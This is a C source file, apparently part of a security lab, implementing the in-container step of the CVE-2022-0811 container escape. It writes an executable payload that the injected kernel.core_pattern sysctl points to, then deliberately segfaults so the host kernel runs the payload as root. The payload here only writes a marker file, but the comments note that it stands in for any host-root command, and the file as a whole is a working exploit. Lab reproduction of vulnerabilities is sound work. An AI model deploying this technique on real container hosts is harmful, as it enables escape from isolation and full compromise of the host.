/*
 * CVE-2022-0811, the attacker's in-container part (the pod's container). The pod spec already
 * carried the injected sysctl (kernel.core_pattern=|<host path of /payload>); here the container
 * writes the payload the host kernel will run, then crashes so the kernel consults core_pattern.
 *
 * Usage (inside the container): /attack <payload path> <marker path on the host>
 * The payload is a shell script that, run by the host kernel as root, writes the marker: the
 * harmless stand-in for "any command as host root".
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

int main(int argc, char **argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: %s <payload path> <host marker path>\n", argv[0]);
    return 2;
  }
  char script[4200];
  snprintf(script, sizeof script, "#!/bin/sh\necho 'kernel.core_pattern handler ran as host root' > '%s'\n", argv[2]);
  if (bw_write_file(argv[1], script) != 0 || chmod(argv[1], 0755) != 0) {
    bw_step("attack: write the core_pattern payload", 0, errno, argv[1]);
    return 1;
  }
  bw_step("attack: write the core_pattern payload", 1, 0, argv[1]);
  fflush(NULL);
  /* A real fault, not raise(): as pid 1 of its pid namespace this process ignores SIGSEGV sent
     by kill(), but a fault is forced on it, and it dumps core through core_pattern. */
  volatile int *volatile nowhere = NULL;
  *nowhere = 1;
  bw_step("attack: crash", 0, EFAULT, "still alive after a NULL write");
  return 1;
}
